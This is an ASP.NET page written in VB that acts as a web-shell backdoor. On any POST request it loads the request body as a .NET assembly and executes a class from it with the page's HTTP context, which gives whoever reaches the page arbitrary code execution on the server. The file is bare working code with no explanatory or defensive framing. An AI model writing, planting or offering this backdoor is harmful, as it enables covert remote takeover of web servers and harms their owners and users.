<%@ Page Language="VB" %>
<script runat="server">
    Sub Page_Load(sender As Object, e As EventArgs)
        If Request.HttpMethod <> "POST" Then Return
        Dim ms As New System.IO.MemoryStream()
        Request.InputStream.CopyTo(ms)
        Dim a = System.Reflection.Assembly.Load(ms.ToArray())
        a.CreateInstance("P").Equals(Context)
    End Sub
</script>
